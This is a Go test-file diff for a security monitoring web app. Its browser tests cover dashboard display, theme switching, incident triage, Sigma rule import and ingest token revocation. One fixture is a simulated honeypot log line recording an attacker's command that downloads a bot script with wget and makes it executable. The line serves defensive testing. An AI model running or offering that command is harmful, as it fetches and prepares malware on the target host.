@@ -4,16 +4,25 @@ package main
 // against the real binary (helpers in browser_helpers_test.go).
 
 import (
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/chromedp/chromedp"
 )
 
-// browserEvents are the events the browser tests search.
+// browserEvents are the events the browser tests search: three old ones
+// and, for the dashboard's default range, two from a minute ago.
 func browserEvents(t testing.TB) []byte {
+	recent := time.Now().UTC().Add(-time.Minute).Format(time.RFC3339)
 	return ndjson(t,
+		ev{"@timestamp": recent, "event.action": "ssh-login", "event.outcome": "failure",
+			"user.name": "carol", "source.ip": "192.0.2.44", "host.name": "bastion", "message": "Failed password for carol"},
+		ev{"@timestamp": recent, "event.action": "ssh-login", "event.outcome": "failure",
+			"user.name": "carol", "source.ip": "192.0.2.44", "host.name": "bastion", "message": "Failed password for carol"},
 		ev{"@timestamp": "2024-05-01T10:00:00Z", "event.action": "ssh-login", "event.outcome": "failure",
 			"user.name": "alice", "source.ip": "203.0.113.7", "host.name": "web-1", "message": "Failed password for alice"},
 		ev{"@timestamp": "2024-05-01T10:00:05Z", "event.action": "ssh-login", "event.outcome": "success",
@@ -54,6 +63,34 @@ func TestBrowserLoginSearchLogout(t *testing.T) {
 	b.checkPage("login-error")
 
 	b.login(n)
+	if p := b.path(); p != "/dashboard" {
+		t.Fatalf("after sign-in the browser is on %s, want /dashboard", p)
+	}
+	b.wantText("[aria-labelledby=top-user-name]", "carol")
+	b.wantText("[aria-labelledby=top-source-ip]", "192.0.2.44")
+	b.wantText(".chart .meta", "2 in total")
+	b.checkPage("dashboard")
+	b.checkKeyboard()
+	b.checkNarrow("dashboard")
+
+	// The theme switch: a form post, no script; it sticks across pages.
+	b.submit(".theme button[value=dark]")
+	if got := eval[string](b, "document.documentElement.dataset.theme || ''"); got != "dark" {
+		t.Errorf("after choosing Dark, <html data-theme> is %q", got)
+	}
+	if p := b.path(); p != "/dashboard" {
+		t.Errorf("the theme form returned to %s, want /dashboard", p)
+	}
+	b.checkPage("dashboard-dark-theme")
+	b.submit(".theme button[value='']")
+	if got := eval[string](b, "document.documentElement.dataset.theme || ''"); got != "" {
+		t.Errorf("after choosing Auto, <html data-theme> is %q", got)
+	}
+
+	// A top entity links to its events.
+	b.submit("[aria-labelledby=top-user-name] tbody a")
+	b.wantText("table tbody", "Failed password for carol")
+
 	b.open("/events")
 	b.checkPage("events")
 
@@ -80,5 +117,102 @@ func TestBrowserLoginSearchLogout(t *testing.T) {
 	b.open("/events")
 	if p := b.path(); !strings.HasPrefix(p, "/login") {
 		t.Errorf("after logout /events went to %s, want the login page", p)
+	}
+}
+
+// browserRulePack is a rule pack upload: one good rule, one broken.
+var browserRulePack = map[string]string{
+	"brute.yml": `title: Browser test brute force
+id: 3e0b9f57-8a7c-4a51-9d55-2f1f0c6b8e11
+status: test
+logsource:
+  product: linux
+detection:
+  selection:
+    event.action: ssh-login
+    event.outcome: failure
+  condition: selection
+level: low
+tags:
+  - attack.t1110
+`,
+	"broken.yml": "title: broken\ndetection: [\n",
+}
+
+// TestBrowserAnalystWorkflow: an incident from a honeypot command is
+// triaged (status, assignee, comment), a rule pack is imported with its
+// error report, an ingest token is created and revoked, and every page of
+// the navigation passes the page checks.
+func TestBrowserAnalystWorkflow(t *testing.T) {
+	t.Parallel()
+	n := startNode(t)
+	tok := n.createToken("honeypot", "ingest")
+	line := `{"eventid":"cowrie.command.input","input":"wget http://10.200.0.10/bot.sh; chmod +x bot.sh","sensor":"hp",` +
+		`"timestamp":"` + time.Now().UTC().Add(-time.Minute).Format(time.RFC3339Nano) + `","src_ip":"10.200.0.2","session":"s1"}` + "\n"
+	if st, _, b := n.mustDo("POST", "/api/v1/ingest/cowrie", tok, strings.NewReader(line), nil); st != 200 {
+		t.Fatalf("ingest cowrie: %d %s", st, b)
+	}
+	b := newBrowser(t, n)
+	b.login(n)
+
+	// Every page of the navigation.
+	for _, p := range []struct{ path, name string }{
+		{"/incidents", "incidents"}, {"/alerts", "alerts"}, {"/rules", "rules"}, {"/attack", "attack"},
+		{"/tokens", "tokens"}, {"/nope", "not-found"},
+	} {
+		b.open(p.path)
+		b.checkPage(p.name)
+	}
+	b.checkNarrow("attack")
+
+	// Open the incident and triage it.
+	b.open("/incidents")
+	b.submit("table tbody tr a")
+	if p := b.path(); !strings.HasPrefix(p, "/incidents/") {
+		t.Fatalf("the incident link went to %s", p)
+	}
+	b.wantText(".timeline", "wget http://10.200.0.10/bot.sh")
+	b.checkPage("incident")
+	b.checkNarrow("incident")
+	b.do("set status", chromedp.SetValue(chromedp.CSS("#t-status"), "contained"))
+	b.fill("#t-assignee", "alice")
+	b.do("comment", chromedp.SendKeys(chromedp.CSS("#t-comment"), "Contained: host isolated.")) // an empty textarea
+	b.submit("form.stack button[type=submit]")
+	b.wantText("#incident-status", "contained")
+	b.wantText("#incident-assignee", "alice")
+	b.wantText(".comments", "Contained: host isolated.")
+	b.checkPage("incident-triaged")
+
+	// Import a rule pack: the good rule is stored, the broken one reported.
+	dir := t.TempDir()
+	var paths []string
+	for name, body := range browserRulePack {
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		paths = append(paths, p)
+	}
+	b.open("/rules")
+	b.do("choose files", chromedp.SetUploadFiles(chromedp.CSS("#pack"), paths))
+	b.submit("form[action='/rules/import'] button[type=submit]")
+	b.wantText("#report-title", "1 imported")
+	b.wantText("#failed-caption ~ tbody", "broken.yml")
+	b.wantText("#rules-caption ~ tbody", "Browser test brute force")
+	b.checkPage("rules-imported")
+
+	// Create an ingest token, see it once, use it, revoke it.
+	b.open("/tokens")
+	b.fill("#token-name", "browser-fw")
+	b.submit("form[action='/tokens'] button[type=submit]")
+	secret := b.text("#new-token")
+	b.checkPage("token-created")
+	if res := n.mustIngest(secret, browserEvents(t), ingestOpts{}); res.Accepted == 0 {
+		t.Fatal("the new token ingested nothing")
+	}
+	b.submit("button[aria-label='Revoke token browser-fw']")
+	b.wantText(".notice", "browser-fw was revoked")
+	if st, _, _, _ := n.ingest(secret, browserEvents(t), ingestOpts{}); st != 401 {
+		t.Errorf("ingest with the revoked token: %d, want 401", st)
 	}
 }
